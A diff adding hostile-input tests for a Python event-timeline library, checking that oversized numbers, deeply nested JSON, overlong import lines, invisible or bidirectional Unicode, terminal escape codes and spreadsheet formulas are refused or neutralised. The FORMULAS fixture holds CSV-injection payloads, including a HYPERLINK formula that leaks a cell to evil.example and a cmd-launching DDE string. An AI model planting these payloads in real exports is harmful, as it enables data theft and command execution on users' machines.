@@ -1,5 +1,8 @@
-"""Hostile input: every bad argument is refused with a TimelineError naming its field, and
-stores nothing; text full of SQL meta-characters is stored verbatim and read back equal.
+"""Hostile input and output: every bad argument is refused with a TimelineError naming its
+field (and its line, in an import file), and stores nothing; text full of SQL
+meta-characters is stored verbatim and read back equal; a line too long for any event is
+refused without being held; names that only look alike are one name or refused; CSV never
+hands a spreadsheet a formula, and text for a terminal never hands it a control sequence.
 
 Each refusal is counted per backend; the totals are printed at the end of the test run
 ("hostile input [sqlite]: refused N of N bad inputs, stored 0 of them").
@@ -7,23 +10,43 @@ Each refusal is counted per backend; the totals are printed at the end of the te
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
 import decimal
+import io
+import json
 import math
 import re
+import tempfile
+import tracemalloc
 import uuid
 from collections import Counter
 from collections.abc import Callable, Iterator
+from pathlib import Path
 from typing import Any
 
 import attrs
 import pytest
 import sqlalchemy as sa
+from click.testing import CliRunner
 from hypothesis import HealthCheck, assume, given, settings
 from hypothesis import strategies as st
 
 import timeline
-from timeline.events import EVENT_FIELDS, event_from_dict
+from timeline.cli import main
+from timeline.events import EVENT_FIELDS, event_from_dict, parse_json
+from timeline.io import (
+    SPREADSHEET_STARTS,
+    from_spreadsheet_cell,
+    max_line_bytes,
+    read_csv,
+    read_events,
+    read_jsonl,
+    spreadsheet_cell,
+    write_csv,
+    write_jsonl,
+)
+from timeline.render import printable
 from timeline.times import isoformat
 
 from helpers import raw_engine, stored_count
@@ -31,6 +54,9 @@ from strategies import (
     SQL_FRAGMENTS,
     Opaque,
     bad_record_calls,
+    formula_events,
+    formula_text,
+    json_text,
     json_values,
     sql_names,
     sql_text,
@@ -42,6 +68,7 @@ INCIDENT = "syria-2017-06"
 GOOD = {"type": "shootdown", "actor": "US", "at": "2017-06-18T18:43+03:00", "incident": INCIDENT}
 GOOD_EVENT = {"occurred_at" if k == "at" else k: v for k, v in GOOD.items()}
 GOOD_DICT = {**GOOD_EVENT, "targets": ["Syria"], "data": {"aircraft": "Su-22"}}
+RECORD_ARGS = ("shootdown", "US", "2017-06-18T18:43+03:00", "--incident", INCIDENT)
 
 HYPOTHESIS = settings(
     max_examples=100,
@@ -152,6 +179,14 @@ def event(**changes: Any) -> Attempt:
 def imported(fields: Any) -> Attempt:
     """Append a good import-style event and one read from ``fields``."""
     return lambda h: h.tl.append([event_from_dict(GOOD_DICT), event_from_dict(fields)])
+
+
+def imported_line(text: str) -> Attempt:
+    """Append a good import-style event and one read from a line of JSON text, parsed as
+    an import parses it."""
+    return lambda h: h.tl.append(
+        [event_from_dict(GOOD_DICT), event_from_dict(parse_json(text, field="event"))]
+    )
 
 
 def good_events(n: int, incident: str = "daraa") -> list[timeline.Event]:
@@ -501,6 +536,97 @@ def case_groups() -> dict[str, list[tuple[str, str, Attempt]]]:
         ("open('::::')", "url", lambda h: timeline.open("::::")),
     ]  # fmt: skip
 
+    too_long = "9" * 5000
+    past_limits = [
+        ("data integer of 5,000 digits", "data", rec(data={"x": 10**5000})),
+        ("effects $inc of 5,000 digits", "effects",
+         rec(effects={"US": {"n": {"$inc": 10**5000}}})),
+        ("events(after_position=2**63)", "after_position",
+         lambda h: list(h.tl.events(after_position=2**63))),
+        ("events(limit=2**63)", "limit", lambda h: list(h.tl.events(limit=2**63))),
+        ("events(page_size=2**63)", "page_size", lambda h: list(h.tl.events(page_size=2**63))),
+        ("events(after_position=10**400)", "after_position",
+         lambda h: list(h.tl.events(after_position=10**400))),
+        ("as_of(Basis(2**63))", "known_at",
+         lambda h: h.tl.as_of(timeline.Basis(2**63)).state("US")),
+        ("expected_version=2**63", "expected_version", rec(expected_version=2**63)),
+        ("load(chunk_size=2**63)", "chunk_size",
+         lambda h: h.tl.load(good_events(2), chunk_size=2**63)),
+        ("open(max_event_bytes=2**63)", "max_event_bytes",
+         lambda h: timeline.open(h.url, max_event_bytes=2**63)),
+        ("sequence(within='99999999999999999d')", "within",
+         lambda h: h.tl.sequence([timeline.Step("shootdown")], within="99999999999999999d")),
+        ("sequence(within=<400 digits>d)", "within",
+         lambda h: h.tl.sequence([timeline.Step("shootdown")], within=too_long[:400] + "d")),
+        ("Step(max_gap='99999999999999999d')", "max_gap",
+         lambda h: timeline.Step("shootdown", max_gap="99999999999999999d")),
+        ("Step(max_gap='1e400w')", "max_gap",
+         lambda h: timeline.Step("shootdown", max_gap=too_long[:400] + ".5w")),
+    ]  # fmt: skip
+    json_text = [
+        (f"import line {label}", "event", imported_line(text))
+        for label, text in {
+            "nested 100,000 deep": "[" * 100_000 + "]" * 100_000,
+            "nested 100,000 deep, unclosed": "{\"a\": " * 100_000,
+            "with an integer of 5,000 digits": '{"data": {"n": ' + too_long + "}}",
+        }.items()
+    ]  # fmt: skip
+
+    look_alikes = [
+        (f"actor {label}", "actor", rec(actor=name))
+        for label, name in {
+            "with a zero-width space": "U\u200bS",
+            "with a right-to-left override": "US\u202eAIRAK",
+            "with a left-to-right embedding": "\u202aUS",
+            "with a pop directional formatting": "US\u202c",
+            "with a right-to-left isolate": "US\u2067AIRAK\u2069",
+            "with a left-to-right mark": "US\u200e",
+            "with a right-to-left mark": "\u200fUS",
+            "with an Arabic letter mark": "U\u061cS",
+            "with a zero-width non-joiner between Latin letters": "U\u200cS",
+            "with a zero-width joiner between Latin letters": "U\u200dS",
+            "starting with a zero-width joiner": "\u200dUS",
+            "with a soft hyphen": "U\u00adS",
+            "with a word joiner": "U\u2060S",
+            "with a byte-order mark": "\ufeffUS",
+            "with a line separator": "U\u2028S",
+            "with a paragraph separator": "U\u2029S",
+            "of a Hangul filler": "\u3164",
+            "ending in a halfwidth Hangul filler": "US\uffa0",
+            "with a tag character": "US\U000e0041",
+            "of 300 characters once composed": "\u0958" * 150,
+        }.items()
+    ]  # fmt: skip
+    look_alikes += [
+        ("incident with a right-to-left override", "incident",
+         rec(incident="syria\u202e2017")),
+        ("target with a zero-width space", "targets", rec(targets=["Sy\u200bria"])),
+        ("target twice, composed and decomposed", "targets",
+         rec(targets=["Cr\u00e9pieux", "Cre\u0301pieux"])),
+        ("effects actor with a right-to-left override", "effects",
+         rec(effects={"Rus\u202esia": {"x": 1}})),
+        ("effects actor twice, composed and decomposed", "effects",
+         rec(effects={"Cr\u00e9pieux": {"x": 1}, "Cre\u0301pieux": {"x": 2}})),
+        ("effects path with a right-to-left override", "effects",
+         rec(effects={"US": {"cooperation\u202e.US": "x"}})),
+        ("effects path with a zero-width space", "effects",
+         rec(effects={"US": {"cooperation.U\u200bS": "x"}})),
+        ("effects path with ESC", "effects", rec(effects={"US": {"status\x1b[2J": "x"}})),
+        ("effects path twice, composed and decomposed", "effects",
+         rec(effects={"US": {"caf\u00e9": 1, "cafe\u0301": 2}})),
+        ("expected_version key with a right-to-left override", "expected_version",
+         rec(expected_version={"syria\u202e": 0})),
+        ("events(actor=<zero-width space>)", "actor",
+         lambda h: list(h.tl.events(actor="U\u200bS"))),
+        ("events(incident=<bidi override>)", "incident",
+         lambda h: list(h.tl.events(incident="syria\u202e"))),
+        ("state(<bidi override>)", "actor", lambda h: h.tl.state("US\u202eAIRAK")),
+        ("history(attribute=<bidi override>)", "attribute",
+         lambda h: h.tl.history("US", "coop\u202e")),
+        ("correct(actor=<zero-width joiner>)", "actor",
+         lambda h: h.tl.correct(h.seed.id, actor="U\u200dS")),
+    ]  # fmt: skip
+
     return {
         "wrong types": wrong_types,
         "naive datetimes": naive,
@@ -512,6 +638,9 @@ def case_groups() -> dict[str, list[tuple[str, str, Attempt]]]:
         "invalid type names": type_names,
         "import dicts": import_dicts,
         "other calls": calls,
+        "numbers past their limits": past_limits,
+        "JSON text past Python's limits": json_text,
+        "look-alike names": look_alikes,
     }
 
 
@@ -800,3 +929,423 @@ def test_a_non_iterable_where_events_or_types_go_is_refused(
     """A value that is not a collection where one is wanted raises a TimelineError."""
     with timeline.open(sqlite_url) as tl:
         refused_field(lambda: call(tl))
+
+
+# -- refusals that escaped as Python errors -------------------------------------------------
+
+
+def cli(*args: str) -> tuple[int, list[str]]:
+    """Run ``timeline ARGS``; return the exit code and the lines printed (stdout and stderr)."""
+    result = CliRunner().invoke(main, list(args))
+    assert result.exception is None or isinstance(result.exception, SystemExit), repr(
+        result.exception
+    )
+    return result.exit_code, result.output.splitlines()
+
+
+def test_a_within_reaching_back_past_year_1_finds_the_matches(tl: timeline.Timeline) -> None:
+    """A ``within`` that fits a duration but reaches back past year 1 bounds nothing (it
+    raised OverflowError while matching)."""
+    tl.record("shootdown", "US", "2017-06-18", incident=INCIDENT)
+    tl.record("cooperation_suspended", "Russia", "2017-06-19", incident=INCIDENT)
+    steps = [timeline.Step("shootdown"), timeline.Step("cooperation_suspended")]
+    assert 1 == len(tl.sequence(steps, within="3000000d").matches)
+    assert 1 == len(tl.sequence(steps, within=dt.timedelta.max).matches)
+
+
+def test_the_largest_whole_number_is_taken(tl: timeline.Timeline) -> None:
+    """2**63 - 1 is a position and a limit the databases take: nothing after it."""
+    tl.record(**GOOD)
+    assert [] == list(tl.events(after_position=2**63 - 1, limit=2**63 - 1))
+    assert 1 == len(list(tl.events(limit=2**63 - 1)))
+
+
+NINES = "9" * 5000
+
+
+@pytest.mark.parametrize(
+    ("args", "field"),
+    [
+        (("events", "--after-position", str(2**63)), "after_position"),
+        (("events", "--limit", str(2**63)), "limit"),
+        (("record", *RECORD_ARGS, "--expected-version", str(2**63)), "expected_version"),
+        (("record", *RECORD_ARGS, "--data", "[" * 100_000 + "]" * 100_000), "data"),
+        (("record", *RECORD_ARGS, "--effects", '{"US": {"n": ' + NINES + "}}"), "effects"),
+        (
+            ("correct", "01900000-0000-7000-8000-000000000001", "--data", '{"n": -' + NINES + "}"),
+            "data",
+        ),
+        (("report", "sequence", "shootdown", "truce", "--within", "99999999999999999d"), "within"),
+        (("report", "sequence", "shootdown", "truce/99999999999999999d"), "max_gap"),
+        (("report", "sequence", "shootdown", "--where", "1:data.n=" + NINES), "--where"),
+        (("chart", "-o", "x.svg", "--step", "shootdown", "--within", "9" * 400 + "d"), "within"),
+    ],
+    ids=lambda v: v if isinstance(v, str) else v[0] if v[0] != "report" else v[-1][:12],
+)
+def test_the_command_line_refuses_numbers_and_json_past_their_limits(
+    db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, args: tuple[str, ...], field: str
+) -> None:
+    """A number or JSON text past what Python or the database takes is one error line
+    naming the option's field, exit 1, nothing stored (it was a traceback)."""
+    monkeypatch.chdir(tmp_path)
+    timeline.upgrade(db_url)
+    code, lines = cli("--db", db_url, *args)
+    assert (1, 1) == (code, len(lines)), lines
+    assert lines[0].startswith(f"error: {field}: "), lines
+    assert 0 == stored_count(db_url)
+
+
+# -- import files: lines too long to read, events too large to store ---------------------
+
+MIB = 1 << 20
+LINE_LIMIT = 2 * MIB + 4096  # max_line_bytes of the default max_event_bytes
+
+
+def jsonl_line(**changes: Any) -> str:
+    """A line of an import file: the good event with ``changes``."""
+    return json.dumps({**GOOD_DICT, **changes})
+
+
+def test_import_names_the_line_of_each_hostile_jsonl_line(db_url: str, tmp_path: Path) -> None:
+    """An import lists, by line, JSON nested too deep, an integer too long, an event over
+    max_event_bytes and a line too long to read, and stores nothing (they were a
+    RecursionError, a ValueError, ``events[1].data`` and a 2.9 GB read)."""
+    path = tmp_path / "hostile.jsonl"
+    lines = [
+        jsonl_line(),
+        "[" * 100_000 + "]" * 100_000,
+        '{"type": "truce", "data": {"n": ' + "9" * 5000 + "}}",
+        jsonl_line(data={"note": "x" * (MIB + 10)}),
+        jsonl_line(data={"note": "y" * LINE_LIMIT}),
+        jsonl_line(type="truce"),
+    ]
+    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
+    code, output = cli("--db", db_url, "import", str(path))
+    assert 1 == code
+    assert [
+        "line 2: event: nests deeper than 64 levels",
+        "line 3: event: holds an integer of more than 4,300 digits",
+        "line 4: data: makes the event 1,048,851 bytes of JSON; the limit is 1,048,576 "
+        "(max_event_bytes)",
+        "line 5: event: is over max_event_bytes (the line is longer than 2,101,248 bytes, "
+        "twice the limit of 1,048,576 and 4,096 more; skipped, not parsed)",
+        f"error: {path}: 4 problems; nothing was stored",
+    ] == output
+    assert 0 == stored_count(db_url)
+
+
+def test_import_names_the_line_of_each_hostile_csv_row(db_url: str, tmp_path: Path) -> None:
+    """A CSV row too long to read is skipped to its end, quoted line breaks included, and
+    the rows after it keep their line numbers; nothing is stored."""
+    path = tmp_path / "hostile.csv"
+    huge = "z" * LINE_LIMIT
+    path.write_text(
+        "type,actor,occurred_at,incident,data\n"
+        "truce,Syria,2017-06-17,s,\n"
+        f'truce,Syria,2017-06-17,s,"{{""note"": ""{huge}\n'
+        f'{huge}""}}"\n'
+        "truce,Syria,2017-13-45,s,\n"
+        'truce,Syria,2017-06-17,s,"{""n"": ' + "9" * 5000 + '}"\n'
+        'truce,Syria,2017-06-17,s,"' + "[" * 100_000 + '"\n'
+        "truce,Syria,2017-06-17,s,\n",
+        encoding="utf-8",
+    )
+    code, output = cli("--db", db_url, "import", str(path))
+    assert 1 == code
+    assert [
+        "line 3: event: is over max_event_bytes (the line is longer than 2,101,248 bytes, "
+        "twice the limit of 1,048,576 and 4,096 more; skipped, not parsed)",
+        "line 5: occurred_at: cannot read '2017-13-45' as a date or time",
+        "line 6: data: holds an integer of more than 4,300 digits",
+        "line 7: data: nests deeper than 64 levels",
+        f"error: {path}: 4 problems; nothing was stored",
+    ] == output
+    assert 0 == stored_count(db_url)
+
+
+@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
+def test_a_line_too_long_is_refused_without_holding_it(tmp_path: Path, fmt: str) -> None:
+    """Reading a file of one 40 MB line (with max_event_bytes 10,000) never holds more
+    than a few of its limit: the line is refused, and the line after it read."""
+    path = tmp_path / f"huge.{fmt}"
+    with path.open("w", encoding="utf-8", newline="") as file:
+        if fmt == "csv":
+            file.write('type,actor,occurred_at,incident,data\ntruce,Syria,2017-06-17,s,"')
+        for _ in range(40):
+            file.write('{"a": "' + "x" * (MIB - 10) + '"}')
+        file.write('"\n' if fmt == "csv" else "\n")
+        file.write(
+            "truce,Syria,2017-06-17,s,\n" if fmt == "csv" else jsonl_line(type="truce") + "\n"
+        )
+    first = 2 if fmt == "csv" else 1
+    tracemalloc.start()
+    try:
+        found = list(read_events(path, max_event_bytes=10_000))
+        peak = tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
+    assert [(first, "event: is over max_event_bytes"), (first + 1, "truce")] == [
+        (n, e.type if isinstance(e, timeline.Event) else str(e).split(" (")[0]) for n, e in found
+    ]
+    assert peak < 1 * MIB, f"peak {peak:,} bytes"
+
+
+def test_an_export_of_large_events_imports_back(db_url: str, tmp_path: Path) -> None:
+    """Events near max_event_bytes export to lines an import takes back, in JSON Lines and
+    CSV (CSV cells over csv's own 128 KiB field limit were refused)."""
+    with timeline.open(db_url, max_event_bytes=400_000) as tl:
+        tl.record(**GOOD, data={"quotes": ['"'] * 60_000})
+        tl.record(**GOOD, data={"note": "é" * 150_000})
+        tl.record(**GOOD, data={"n": [0] * 190_000})
+        expected = [e.content() for e in tl.events()]
+        for fmt in ("jsonl", "csv"):
+            with (tmp_path / f"export.{fmt}").open("w", encoding="utf-8", newline="") as file:
+                (write_csv if fmt == "csv" else write_jsonl)(tl.events(), file)
+            read = [e for _, e in read_events(tmp_path / f"export.{fmt}", max_event_bytes=400_000)]
+            assert expected == [e.content() for e in read], fmt
+
+
+# -- CSV that spreadsheets open ----------------------------------------------------------------
+
+
+@HYPOTHESIS
+@given(text=formula_text | json_text)
+def test_a_spreadsheet_cell_never_starts_a_formula_and_reads_back(text: str) -> None:
+    """Any text written as a spreadsheet cell starts with no formula character, and reads
+    back as it was, a leading quote included."""
+    cell = spreadsheet_cell(text)
+    assert not cell.startswith(SPREADSHEET_STARTS)
+    assert text == from_spreadsheet_cell(cell)
+
+
+@HYPOTHESIS
+@given(batch=st.lists(formula_events(), max_size=4))
+def test_events_that_start_as_formulas_read_back_from_csv(batch: list[timeline.Event]) -> None:
+    """Events whose actor, incident, targets or data start as a formula (or with a quote)
+    are written as CSV cells a spreadsheet does not run, and read back as equal events."""
+    out = io.StringIO(newline="")
+    write_csv(batch, out)
+    cells = [cell for row in csv.reader(io.StringIO(out.getvalue())) for cell in row]
+    assert [] == [cell for cell in cells if cell.startswith(SPREADSHEET_STARTS)]
+    with tempfile.TemporaryDirectory() as folder:
+        path = Path(folder) / "events.csv"
+        path.write_text(out.getvalue(), encoding="utf-8", newline="")
+        assert batch == [event for _, event in read_events(path)]
+
+
+FORMULAS = {
+    "actor": '=HYPERLINK("http://evil.example/?"&A1, "details")',
+    "incident": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "targets": ["+1-555-0100", "-2+3", "'s-Hertogenbosch", "'=already quoted"],
+    "data": {"note": "\t=1+1", "other": "\r=2"},
+}
+
+
+def formula_cells(text: str) -> list[str]:
+    """The cells of CSV text that a spreadsheet would run as a formula."""
+    return [
+        c for row in csv.reader(io.StringIO(text)) for c in row if c.startswith(SPREADSHEET_STARTS)
+    ]
+
+
+def test_csv_outputs_neutralise_formulas_and_import_reads_them_back(
+    db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """export, events and report sequence write no cell a spreadsheet would run; an
+    import of the export gives back the same events, the quotes of ``'s-Hertogenbosch``
+    and ``'=already quoted`` included."""
+    monkeypatch.chdir(tmp_path)
+    with timeline.open(db_url) as tl:
+        tl.record(
+            "shootdown",
+            FORMULAS["actor"],
+            "2017-06-18",
+            incident=FORMULAS["incident"],
+            targets=FORMULAS["targets"][:2],
+            data={"key": "=cmd"},
+        )
+        tl.record(
+            "truce",
+            FORMULAS["targets"][2],
+            "2017-06-19",
+            incident=FORMULAS["incident"],
+            targets=FORMULAS["targets"][3:],
+            data=FORMULAS["data"],
+        )
+        expected = [e.content() for e in tl.events()]
+    code, _ = cli("--db", db_url, "export", "-o", "export.csv")
+    exported = Path("export.csv").read_text(encoding="utf-8")
+    code_events, listed = cli("--db", db_url, "events", "--format", "csv")
+    code_report, reported = cli(
+        "--db", db_url, "report", "sequence", "shootdown:data.key", "--format", "csv"
+    )
+    assert (0, 0, 0) == (code, code_events, code_report)
+    assert ([], [], []) == (
+        formula_cells(exported),
+        formula_cells("\n".join(listed)),
+        formula_cells("\n".join(reported)),
+    )
+    assert "'=HYPERLINK" in exported and "'=cmd" in "\n".join(reported)
+    copy = f"sqlite:///{tmp_path / 'copy.db'}"
+    assert 0 == cli("--db", copy, "import", "export.csv")[0]
+    with timeline.open(copy) as tl:
+        assert expected == [e.content() for e in tl.events()]
+
+
+# -- text printed to a terminal ----------------------------------------------------------------
+
+SCREEN_CONTROLS = re.compile(
+    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]"
+)
+"""What a terminal obeys instead of showing: controls (but the line break), C1 (``\\x9b``
+is CSI), bidirectional controls, Unicode line breaks."""
+
+
+@HYPOTHESIS
+@given(text=st.text())
+def test_printable_text_holds_nothing_a_terminal_obeys(text: str) -> None:
+    """printable() leaves no control or bidirectional character but line breaks, and
+    none at all with lines=False; text without them is left as it is."""
+    assert None is SCREEN_CONTROLS.search(printable(text))
+    assert (None, None) == (
+        SCREEN_CONTROLS.search(printable(text, lines=False)),
+        re.search("\n", printable(text, lines=False)),
+    )
+    if SCREEN_CONTROLS.search(text) is None:
+        assert text == printable(text)
+
+
+CLEAR = "\x1b[2J\x1b[H"
+HOSTILE_VALUES = {
+    "status": f"suspended{CLEAR}",
+    "flag": "US\u202eAIRAK",
+    "csi": "\x9b2J",
+    "note": "first line\nsecond line\r\tand a tab",
+}
+
+
+def test_terminal_output_escapes_control_characters(
+    db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """state, history, revisions, report sequence (text and Markdown) and error lines
+    show control characters and bidirectional overrides as escapes (an effect value
+    holding ESC[2J cleared the screen); --json and CSV keep them exactly."""
+    monkeypatch.chdir(tmp_path)
+    with timeline.open(db_url) as tl:
+        first = tl.record(
+            "shootdown", "US", "2017-06-18", incident=INCIDENT,
+            effects={"US": HOSTILE_VALUES}, data={"key": CLEAR},
+        )  # fmt: skip
+        tl.retract(first.id, f"mistaken{CLEAR}")
+        tl.record("shootdown", "US", "2017-06-19", incident=INCIDENT,
+                  effects={"US": HOSTILE_VALUES}, data={"key": CLEAR})  # fmt: skip
+    outputs = {
+        "state": cli("--db", db_url, "state", "US"),
+        "history": cli("--db", db_url, "history", "US"),
+        "revisions": cli("--db", db_url, "revisions", str(first.id)),
+        "report": cli("--db", db_url, "report", "sequence", "shootdown:data.key"),
+        "markdown": cli(
+            "--db", db_url, "report", "sequence", "shootdown:data.key", "--format", "markdown"
+        ),
+        "error": cli("--db", db_url, "export", "-o", f"no{CLEAR}folder/x.csv"),
+    }
+    shown = {name: "\n".join(lines) for name, (_, lines) in outputs.items()}
+    assert {name: None for name in outputs} == {
+        name: SCREEN_CONTROLS.search(text) for name, text in shown.items()
+    }
+    assert "suspended\\x1b[2J\\x1b[H" in shown["state"]
+    assert "US\\u202eAIRAK" in shown["state"] and "\\x9b2J" in shown["history"]
+    assert "first line\\nsecond line\\r\\tand a tab" in shown["state"]
+    assert "(retracted: mistaken\\x1b[2J\\x1b[H)" in shown["revisions"]
+    assert "\\x1b[2J\\x1b[H" in shown["report"] and "\\x1b[2J\\x1b[H" in shown["markdown"]
+    assert 1 == len(outputs["error"][1]) and "no\\x1b[2J\\x1b[Hfolder" in shown["error"]
+    code, lines = cli("--db", db_url, "state", "US", "--json")
+    assert (0, HOSTILE_VALUES) == (code, json.loads(lines[0])["values"])
+    code, lines = cli("--db", db_url, "events", "--format", "jsonl")
+    assert (0, CLEAR) == (code, json.loads(lines[-1])["data"]["key"])
+
+
+# -- names that look alike ---------------------------------------------------------------------
+
+PERSIAN = "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645"  # "I want", with its ZWNJ
+CONJUNCT = "\u0915\u094d\u200d\u0937"  # Devanagari k + virama + ZWJ + ss: a half form
+EMOJI = "\U0001f469\u200d\U0001f4bb"  # woman technologist, a ZWJ sequence
+COMPOSED, DECOMPOSED = "Cr\u00e9pieux", "Cre\u0301pieux"
+
+
+def test_names_keep_what_scripts_need_and_are_one_name_however_accents_are_typed(
+    tl: timeline.Timeline,
+) -> None:
+    """Joiners stay where Persian, Indic scripts and emoji need them; a name typed with a
+    composed or a decomposed accent is stored composed (NFC) and found either way, by
+    events, state, history, sequence steps and expected_version."""
+    recorded = tl.record(
+        "statement", DECOMPOSED, "2017-06-18", incident=f"lyon-{DECOMPOSED}",
+        targets=[PERSIAN, CONJUNCT, EMOJI],
+        effects={DECOMPOSED: {f"cafe\u0301.{PERSIAN}": "open"}},
+    )  # fmt: skip
+    assert (COMPOSED, f"lyon-{COMPOSED}", (PERSIAN, CONJUNCT, EMOJI)) == (
+        recorded.actor,
+        recorded.incident,
+        recorded.targets,
+    )
+    assert {COMPOSED: {f"caf\u00e9.{PERSIAN}": "open"}} == recorded.effects
+    for name in (COMPOSED, DECOMPOSED):
+        assert [recorded.id] == [e.id for e in tl.events(actor=name)]
+        assert [recorded.id] == [e.id for e in tl.events(incident=f"lyon-{name}")]
+        assert "open" == tl.state(name)[f"caf\u00e9.{PERSIAN}"]
+        assert 1 == len(tl.history(name, "cafe\u0301"))
+        assert 1 == tl.incident_version(f"lyon-{name}")
+        step = timeline.Step(
+            "statement", where={"actor": name, "targets": [PERSIAN, CONJUNCT, EMOJI]}
+        )
+        assert 1 == len(tl.sequence([step]).matches)
+    for name in (PERSIAN, CONJUNCT, EMOJI):
+        assert [recorded.id] == [e.id for e in tl.events(actor=name)]
+    tl.record("statement", COMPOSED, "2017-06-19", incident=f"lyon-{COMPOSED}",
+              expected_version={f"lyon-{DECOMPOSED}": 1})  # fmt: skip
+    assert [COMPOSED, COMPOSED] == [e.actor for e in tl.events(actor=DECOMPOSED)]
+
+
+def test_the_command_line_finds_a_name_however_its_accents_are_typed(db_url: str) -> None:
+    """timeline record and state take a name typed decomposed as the composed one."""
+    cli("--db", db_url, "record", "statement", DECOMPOSED, "2017-06-18", "--incident", "x",
+        "--effects", json.dumps({COMPOSED: {"status": "open"}}))  # fmt: skip
+    code, lines = cli("--db", db_url, "state", DECOMPOSED)
+    assert (0, f"{COMPOSED} after all its events, as known now: 1 event applied") == (
+        code,
+        lines[0],
+    )
+    assert ["status", "open"] == lines[2].split()
+    code, lines = cli("--db", db_url, "record", "statement", "U\u200bS", "2017-06-18",
+                      "--incident", "x")  # fmt: skip
+    assert (1, ["error: actor: must not contain U+200B (ZERO WIDTH SPACE), which is invisible "
+                "or reorders the text around it"]) == (code, lines)  # fmt: skip
+
+
+@pytest.mark.parametrize("ending", ["\n", "\r\n"])
+def test_a_line_of_exactly_the_limit_is_read_and_one_byte_more_is_not(
+    tmp_path: Path, ending: str
+) -> None:
+    """The line limit counts a line without its line break: a line of exactly
+    max_line_bytes is read (its \\r\\n too, not left over as a line of its own), one byte
+    longer is refused, and the lines after both keep their numbers."""
+    limit = max_line_bytes(1000)
+    assert limit is not None
+    line = jsonl_line(type="truce", data={"note": ""})
+    exact = line.replace('"note": ""', '"note": "' + "x" * (limit - len(line)) + '"')
+    longer = exact.replace('"note": "', '"note": "y')
+    assert (limit, limit + 1) == (len(exact), len(longer))
+    path = tmp_path / "edge.jsonl"
+    path.write_bytes(ending.join([exact, longer, line, ""]).encode())
+    found = [(n, str(e).split(" (")[0]) for n, e in read_jsonl(path, max_event_bytes=1000)]
+    assert [1, 2, 3] == [n for n, _ in found]
+    assert "event: is over max_event_bytes" == found[1][1]
+    cell = "z" * (limit - len("truce,Syria,2017-06-17,s,"))
+    rows = ["type,actor,occurred_at,incident,data", f"truce,Syria,2017-06-17,s,{cell}",
+            f"truce,Syria,2017-06-17,s,{cell}z", "truce,Syria,2017-06-17,s,"]  # fmt: skip
+    path = tmp_path / "edge.csv"
+    path.write_bytes((ending.join(rows) + ending).encode())
+    found = [(n, str(e).split(" (")[0]) for n, e in read_csv(path, max_event_bytes=1000)]
+    assert [2, 3, 4] == [n for n, _ in found]
+    assert "event: is over max_event_bytes" == found[1][1]
